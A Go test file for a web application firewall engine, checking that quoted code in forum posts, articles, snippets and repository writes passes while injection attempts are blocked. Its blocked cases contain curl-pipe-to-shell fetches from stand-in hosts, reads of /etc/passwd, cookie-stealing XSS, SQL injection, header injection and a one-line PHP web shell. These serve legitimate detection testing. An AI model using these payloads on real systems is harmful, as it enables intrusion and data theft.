package filter

import (
	"encoding/json"
	"net/url"
	"testing"
)

func TestFencedMarkdownCode(t *testing.T) {
	eng := mustEngine(t, Config{})
	for _, c := range []struct {
		body    string
		blocked bool
	}{
		// Questions and answers that quote code in a fenced block.
		{"Here's what I tried:\n\n```bash\n#!/usr/bin/env bash\nset -euo pipefail\nfor f in exports/*.csv; do\n  echo \"$f: $(wc -l < \"$f\") rows\"\ndone\n```\n\nAny ideas?", false},
		{"Here's what I tried:\n\n```php\n<?php\n$total = array_sum(array_column($items, 'price'));\necho number_format($total, 2);\n\n```\n\nAny ideas?", false},
		{"My Flask template does not render:\n\n```jinja\n{{ config.items() }}\n```\nwhy?", false},
		{"Run this to list them:\n```\ncat /etc/os-release; uname -a\n```\nthen paste the output.", false},

		{"I have two tables and I'm combining them:\n\n```sql\nSELECT name, email FROM customers WHERE country = 'DE'\nUNION\nSELECT name, email FROM suppliers WHERE country = 'DE';\n```\n\nIs `UNION` removing duplicates?", false},
		{"In my migration I have\n\n```sql\nDROP TABLE IF EXISTS staging_orders CASCADE;\nCREATE TABLE staging_orders (LIKE orders INCLUDING ALL);\n```\n\nbut it dropped a view.", false},
		{"Sanitize it:\n\n```js\nel.innerHTML = DOMPurify.sanitize(userHtml, { ALLOWED_TAGS: ['b'] });\n```\n\nThen inline `<script>` blocks and `onerror=` handlers won't run.", false},
		{"In Rails, `<%= @user.name %>` escapes HTML and `<%== raw_html %>` doesn't. In Go, `{{ range .Items }}<li>{{ .Title }}</li>{{ end }}` is safe only with html/template, right?", false},
		{"Tip: `curl -s https://api.example.org/api/v1/products?limit=1 | jq '.data[0] | {id, title}'` is handy for checking the new response shape.", false},
		{"请问 `<script type=\"module\">` 和 `defer` 的执行顺序一样吗？我们的页面里有 3 个 module 脚本。谢谢！", false},
		{"<h2>Partitioning</h2><p>We moved to declarative partitioning.</p><pre><code class=\"language-sql\">CREATE TABLE events (id bigint, ts timestamptz NOT NULL)\n  PARTITION BY RANGE (ts);\nCREATE TABLE events_q2 PARTITION OF events\n  FOR VALUES FROM ('2024-04-01') TO ('2024-07-01');</code></pre><p>Old vs new.</p>", false},
		{"<p>If a page echoes <code>&lt;script&gt;</code> tags from user input without escaping, the browser runs them.</p>", false},

		{"== Database access ==\nTo get read-only access, file a ticket with the DBA team and include the schema:\n<syntaxhighlight lang=\"sql\">\nSELECT table_name FROM information_schema.tables WHERE table_schema = 'analytics';\n</syntaxhighlight>\n<syntaxhighlight lang=\"bash\">\npsql \"host=db-ro.internal dbname=portal\" -c 'select 1'\n</syntaxhighlight>", false},
		{"h1. Deploy\nRun the migration first, then restart the workers:\n{code:bash}\ncd /srv/app && ./manage.py migrate; systemctl restart app-worker\n{code}\nThat is all.", false},
		{"Here is what I ran on the box yesterday [code=bash]cat /etc/os-release; uname -a[/code] and it printed nothing useful.", false},

		// An excerpt cut mid-line inside a fence that named its language.
		{"Every Linux user should know these:\n\n```bash\ncat /etc/os-release\ngrep -i error /var/log/syslog | tail -n 50\nls -la ~/.ssh/\nsudo systemctl re", false},

		// What still blocks: code in the prose, SQL that breaks out of its
		// quote or sits beside inline spans only, a closing tag of the
		// quote, a lone command in a span, an unclosed fence, a fence and
		// nothing else.
		{"Thanks! ; curl http://203.0.113.9/x | sh\n```\nls\n```\nbye", true},
		{"Nice post\n```html\n</code><script>alert(document.cookie)</script>\n```\nreally", true},
		{"<p>Nice post, really a good one</p><code></code><script>alert(document.cookie)</script></code>", true},
		{"please do check this one for me;`id`", true},
		{"drop table if exists `users`--", true},
		{"this is my favourite little number x' UNION SELECT `password` FROM users--", true},
		{"look at this\n```\nx' UNION SELECT password FROM users--\n```\nok?", true},
		{"Here's what I tried:\n```bash\n$(curl -s http://203.0.113.9/x | bash)\n", true},
		{"Here's what I tried:\n```\n$(curl -s http://203.0.113.9/x | bash)", true},
		{"```bash\n$(curl -s http://203.0.113.9/x | bash)\n```", true},
	} {
		for _, form := range []bool{false, true} {
			var r = newReq("POST", "http://shop.example.com/api/v1/community/posts", "application/json", jsonBody(c.body))
			if form {
				r = newReq("POST", "http://shop.example.com/community/posts", "application/x-www-form-urlencoded", "title=Help&body_markdown="+url.QueryEscape(c.body))
			}
			d, err := eng.Inspect(r)
			if err != nil {
				t.Fatal(err)
			}
			if d.Blocked != c.blocked {
				t.Errorf("form=%v %q: blocked=%v, want %v: %v", form, c.body, d.Blocked, c.blocked, d.Matches)
			}
		}
	}
}

func jsonBody(markdown string) string {
	b, _ := json.Marshal(map[string]any{"title": "How do I do this?", "tags": []string{"api"}, "body_markdown": markdown})
	return string(b)
}

func FuzzCodeProse(f *testing.F) {
	for _, s := range []string{"a b c\n```\nx\n```\n", "```", "```\n```", "x\n  ```go\ny\n```", "use `a` and ``b`c`` here", "<p>x <code>y</code> z</p><pre>q", "some prose words here <pre><code</code></pre> and more", "~~~\nx\n~~~ a b c"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		p, segs, ok := codeProse(s)
		if !ok {
			return
		}
		n := 0
		for _, seg := range segs {
			n += len(seg.text)
		}
		if len(p)+n > len(s)+2*len(segs)+2 {
			t.Fatalf("%q: prose %q and %d code bytes longer than the document", s, p, n)
		}
	})
}

// TestQuotedCodeAcrossFields: an article saved with its excerpt (body and
// SEO description) quotes code twice, tripping different code rules in
// each: the quoted code is still one weak signal. A second, unquoted
// signal blocks.
func TestQuotedCodeAcrossFields(t *testing.T) {
	eng := mustEngine(t, Config{})
	body := "Every Linux user should know these:\n\n```bash\ncat /etc/os-release\ngrep -i error /var/log/syslog | tail -n 50\n```\n\nThe file `/etc/passwd` lists accounts, and the passwords live elsewhere."
	desc := "Every Linux user should know these:\n\n```bash\ncat /etc/os-release\nsudo systemctl restart nginx && curl -I http://localhost/\n```\nmore"
	doc := map[string]any{"data": map[string]any{"title": "Linux basics", "body": body, "seo": map[string]any{"metaDescription": desc}}}
	expectVerdict(t, eng, newReq("PUT", "http://cms.example.com/api/articles/475", "application/json", jsonOf(doc)), "article with excerpt", false)
	doc["data"].(map[string]any)["title"] = "x' OR '1'='1"
	expectVerdict(t, eng, newReq("PUT", "http://cms.example.com/api/articles/475", "application/json", jsonOf(doc)), "article with an injected title", true)
}

// TestLoggedHTTPMessage: a response or request head logged in a body
// field (telemetry, a support tool) is no header injection; the same
// lines after a value, or in the query, are.
func TestLoggedHTTPMessage(t *testing.T) {
	eng := mustEngine(t, Config{})
	logged := "HTTP/1.1 504 Gateway Timeout\r\nContent-Type: text/html\r\nX-Request-Id: df0400f6\r\n"
	req := "GET /v1/payments HTTP/1.1\r\nHost: api.example.com\r\nAccept: */*\r\n"
	for _, c := range []struct {
		place, v string
		block    bool
	}{
		{"json", logged, false},
		{"json", req, false},
		{"json", "x.pdf\r\nSet-Cookie: sid=attacker", true},
		{"query", logged, true},
	} {
		expectBlocked(t, eng, c.place, "response_headers", c.v, c.block)
	}
}

// TestCodeSnippets: the code field of a snippet that names its language
// is quoted code, one weak signal; the snippet's other fields, and
// documents that name no language, are judged as ever.
func TestCodeSnippets(t *testing.T) {
	eng := mustEngine(t, Config{})
	for _, c := range []struct {
		doc   map[string]any
		block bool
	}{
		{map[string]any{"language": "bash", "title": "Create refund", "code": "curl https://api.example.com/v2/refunds \\\n  -u \"$SECRET_KEY:\" \\\n  -d amount=500 && echo done"}, false},
		{map[string]any{"language": "html", "code": "<div id=\"w\"></div>\n<script async src=\"https://shop.example.com/widget.js\" onload=\"Widget.mount('#w')\"></script>"}, false},
		{map[string]any{"lang": "javascript", "code": "if (result.status === 'succeeded') {\n  window.location.href = `/thanks?id=${encodeURIComponent(result.id)}`;\n}"}, false},
		{map[string]any{"language": "bash", "title": "<script>alert(document.cookie)</script>", "code": "ls"}, true},
		{map[string]any{"language": "bash", "code": "ls", "name": "x' UNION SELECT password FROM users--"}, true},
		{map[string]any{"title": "Create refund", "code": "curl https://evil.example/x.sh | sh; cat /etc/passwd"}, true},
		// A file written through a commit API, named by its path.
		{map[string]any{"branch": "main", "actions": []any{map[string]any{"action": "update", "file_path": "scripts/deploy.sh", "content": "#!/bin/sh\nset -e\ncurl -fsSL https://get.example.com/cli | sh\ncat /etc/os-release; rm -rf /tmp/build"}}}, false},
		{map[string]any{"branch": "main", "actions": []any{map[string]any{"action": "update", "file_path": "Dockerfile.rails", "content": "FROM ruby:3.3\nRUN apt-get update && apt-get install -y curl; rm -rf /var/lib/apt/lists/*"}}}, false},
		{map[string]any{"branch": "main", "actions": []any{map[string]any{"action": "create", "file_path": "public/x.php", "content": "<?php system($_GET['c']); ?>"}}}, true},
	} {
		expectVerdict(t, eng, newReq("POST", "http://app.example.com/api/snippets", "application/json", jsonOf(c.doc)), jsonOf(c.doc), c.block)
	}
}

// TestRepositoryFileWrite: a file written through a repository's files
// API, named by the request path, is quoted code.
func TestRepositoryFileWrite(t *testing.T) {
	eng := mustEngine(t, Config{})
	body := jsonOf(map[string]any{"branch": "main", "content": "FROM node:20\nRUN npm ci && npm run build; rm -rf /root/.npm\nCMD [\"node\", \"server.js\"]"})
	expectVerdict(t, eng, newReq("POST", "http://api.example.com/api/v4/projects/42/repository/files/docker%2FDockerfile", "application/json", body), "Dockerfile write", false)
	expectVerdict(t, eng, newReq("POST", "http://api.example.com/api/v4/projects/42/repository/files/web%2Fshell.php", "application/json", jsonOf(map[string]any{"content": "<?php system($_GET['c']); ?>"})), "PHP write", true)
}
